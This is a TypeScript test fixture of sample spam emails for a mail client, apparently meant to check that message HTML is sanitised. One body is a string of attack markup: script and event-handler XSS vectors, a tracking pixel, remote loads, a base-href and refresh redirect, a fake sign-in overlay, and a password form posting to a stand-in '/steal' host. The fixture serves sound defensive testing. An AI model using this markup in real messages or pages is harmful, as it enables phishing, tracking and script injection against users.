import type { MailText } from './mailText';

/** Attack markup. None of it may run, load or be submitted. */
const hostile = `<h1 onclick="alert('click')">You have won</h1><script>alert('script')</script><img src="x" onerror="alert('error')"><img src="https://tracker.totally-real-prizes.example/pixel.gif?who=maren" width="1" height="1"><style>@import url(https://totally-real-prizes.example/style.css); body { background: url(https://totally-real-prizes.example/back.png) }</style><iframe src="https://totally-real-prizes.example"></iframe><svg><script>alert('svg')</script></svg><form action="https://totally-real-prizes.example/steal" method="post"><label>Password <input type="password" name="password"></label><button>Collect</button></form><a href="javascript:alert('link')">Collect your prize</a><base href="https://totally-real-prizes.example/"><meta http-equiv="refresh" content="0;url=https://totally-real-prizes.example/"><p style="position:fixed;inset:0;z-index:99999">Your session has ended. Sign in again.</p>`;

export const spamTexts: readonly MailText[] = [
  {
    folder: 'spam',
    from: 'prize',
    subject: 'YOUR PRIZE WAITS!!! <b>Open now</b>',
    body: hostile,
    ago: 6,
    isUnread: true,
  },
  {
    folder: 'spam',
    from: 'seo',
    subject: 'First place in every search, guaranteed',
    body: 'We looked at your site and wept. For 299 a month you will be found before you are looked for.',
    ago: 31,
    isUnread: true,
  },
  {
    folder: 'spam',
    from: 'parcel',
    subject: 'Parcel held: pay 1.99',
    body: '<p>Your parcel is held at the depot. <a href="http://parcel-desk.example/pay?id=7">Pay the fee</a> within 12 hours.</p>',
    ago: 47,
    isUnread: true,
  },
  {
    folder: 'spam',
    from: 'prize',
    subject: 'Last warning about your prize',
    body: 'You have not answered. The prize is sad.',
    ago: 120,
  },
  {
    folder: 'spam',
    from: 'seo',
    subject: 'Re: our call',
    body: 'It was good to talk yesterday (we did not). Shall we say Tuesday?',
    ago: 145,
    labels: ['company'],
    isStarred: true,
  },
];
